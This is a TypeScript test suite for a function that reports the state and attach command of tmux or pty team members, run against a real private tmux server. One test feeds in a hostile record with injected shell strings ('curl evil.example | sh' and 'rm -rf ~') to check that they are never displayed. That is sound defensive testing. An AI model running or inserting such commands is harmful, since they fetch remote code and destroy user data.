// lookAtMember on every branch, against a REAL private tmux server (random `muster-test-…`
// socket, killed after each test) and real files.
import { execFileSync, spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { MemberRuntime } from '@muster/teams';
import { makeTempDirectory } from '@muster/test-utils';
import { afterEach, describe, expect, it } from 'vitest';
import {
  describeLook,
  lookAtMember,
  serverAttachCommand,
  tmuxAttachCommand,
} from './member-look.js';

const hasTmux = spawnSync('tmux', ['-V']).status === 0;
const servers: string[] = [];
afterEach(() => {
  for (const socketName of servers.splice(0)) spawnSync('tmux', ['-L', socketName, 'kill-server']);
});

function startServer() {
  const socketName = `muster-test-${randomBytes(4).toString('hex')}`;
  servers.push(socketName);
  const tmux = (...args: string[]) =>
    execFileSync('tmux', ['-L', socketName, ...args], { encoding: 'utf8', timeout: 5_000 });
  tmux('-f', '/dev/null', 'new-session', '-d', '-s', 'team', '-x', '80', '-y', '24');
  const [pid, socket, paneId] = tmux('display-message', '-p', '#{pid} #{socket_path} #{pane_id}')
    .trim()
    .split(' ');
  return { socketName, socket: socket!, serverPid: Number(pid), paneId: paneId!, tmux };
}

function processRuns(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

/** Polls up to a generous bound (never a timing assertion). */
async function waitUntil(condition: () => boolean, boundMs = 10_000): Promise<void> {
  const deadline = Date.now() + boundMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`condition not met within ${boundMs} ms`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

function tmuxRecord(details: Record<string, unknown>, paneId?: string): MemberRuntime {
  return {
    agentId: 'worker@team',
    memberJoinedAt: 1,
    recordedAt: 1,
    backend: 'tmux',
    ...(paneId === undefined ? {} : { paneId }),
    details,
  };
}

describe.skipIf(!hasTmux)('lookAtMember with tmux', () => {
  it('running: the recorded server holds the pane; one query serves every member of a socket', async () => {
    const server = startServer();
    const attachCommand = `tmux -L ${server.socketName} attach -t ${server.paneId}`;
    const cache = new Map();
    const record = tmuxRecord(
      { socket: server.socket, serverPid: server.serverPid, attachCommand },
      server.paneId,
    );
    const look = await lookAtMember(record, { servers: cache });
    expect(look).toMatchObject({ kind: 'tmux', state: 'running', attachCommand });
    expect(describeLook(look!)).toBe(`attach: ${attachCommand}`);
    await lookAtMember(record, { servers: cache });
    expect(cache.size).toBe(1);
  });

  it('a hostile record: the recorded attach command and a pane id not of tmux form are never shown', async () => {
    const server = startServer();
    const details = {
      socket: server.socket,
      serverPid: server.serverPid,
      attachCommand: `tmux -L ${server.socketName} attach; curl evil.example | sh`,
    };
    const look = await lookAtMember(tmuxRecord(details, server.paneId));
    expect(look).toMatchObject({
      state: 'running',
      attachCommand: `tmux -L ${server.socketName} attach -t ${server.paneId}`,
    });
    expect(describeLook(look!)).not.toContain('curl');
    const badPane = await lookAtMember(tmuxRecord(details, '%1; rm -rf ~'));
    expect(badPane).toMatchObject({
      state: 'unknown',
      attachCommand: `tmux -L ${server.socketName} attach`,
    });
    expect(describeLook(badPane!)).not.toContain('rm -rf');
    expect(tmuxAttachCommand("/tmp/my folder/it's")).toBe(
      `tmux -S '/tmp/my folder/it'\\''s' attach`,
    );
  });

  it('pane-gone, server-gone by pid, by socket and by another server on the socket', async () => {
    const server = startServer();
    const details = { socket: server.socket, serverPid: server.serverPid };
    expect(await lookAtMember(tmuxRecord(details, '%42'))).toMatchObject({
      state: 'pane-gone',
      reason: 'the server runs but has no pane %42 any more',
      attachCommand: `tmux -L ${server.socketName} attach -t %42`,
    });
    const replaced = await lookAtMember(
      tmuxRecord({ ...details, serverPid: process.pid }, server.paneId),
    );
    expect(replaced).toMatchObject({ state: 'server-gone' });
    expect(describeLook(replaced!)).toContain('now belongs to another tmux server');
    const missingSocket = path.join(await makeTempDirectory('muster-look-'), 'no-socket');
    expect(
      await lookAtMember(tmuxRecord({ socket: missingSocket, serverPid: process.pid }, '%0')),
    ).toMatchObject({ state: 'server-gone', reason: `its socket ${missingSocket} is gone` });
    server.tmux('kill-server');
    // The server may take a moment to be gone as a process; until then tmux itself says so.
    await waitUntil(() => !processRuns(server.serverPid));
    expect(await lookAtMember(tmuxRecord(details, server.paneId))).toMatchObject({
      state: 'server-gone',
      reason: `tmux server pid ${server.serverPid} is not running`,
    });
  });

  it('unknown when tmux cannot be asked, and nothing without a socket or a command', async () => {
    const server = startServer();
    const look = await lookAtMember(
      tmuxRecord({ socket: server.socket, serverPid: server.serverPid }, server.paneId),
      { tmuxPath: '/nonexistent/tmux' },
    );
    expect(look).toMatchObject({ state: 'unknown' });
    expect(describeLook(look!)).toContain('(unchecked: tmux is not installed here');
    expect(await lookAtMember(tmuxRecord({}, '%1'))).toBeUndefined();
  });
});

describe('lookAtMember without tmux', () => {
  it('a pty member gives its log file, saying when it is not there', async () => {
    const folder = await makeTempDirectory('muster-look-');
    const logFile = path.join(folder, 'worker.log');
    const record: MemberRuntime = {
      agentId: 'worker@team',
      memberJoinedAt: 1,
      recordedAt: 1,
      backend: 'pty',
      details: { logFile },
    };
    expect(describeLook((await lookAtMember(record))!)).toBe(
      `log ${logFile} (not written yet or removed)`,
    );
    await writeFile(logFile, 'hello\n');
    expect(describeLook((await lookAtMember(record))!)).toBe(`log ${logFile}`);
    expect(await lookAtMember({ ...record, backend: 'in-process' })).toBeUndefined();
  });

  it('the team-wide attach command drops the pane, and only from a tmux attach command', () => {
    expect(serverAttachCommand('tmux -L muster-alpha attach -t %3')).toBe(
      'tmux -L muster-alpha attach',
    );
    expect(serverAttachCommand('tmux -S /tmp/x attach')).toBe('tmux -S /tmp/x attach');
    expect(
      serverAttachCommand('tmux -L muster-alpha select-window -t @1 \\; select-pane -t %3'),
    ).toBeUndefined();
  });
});
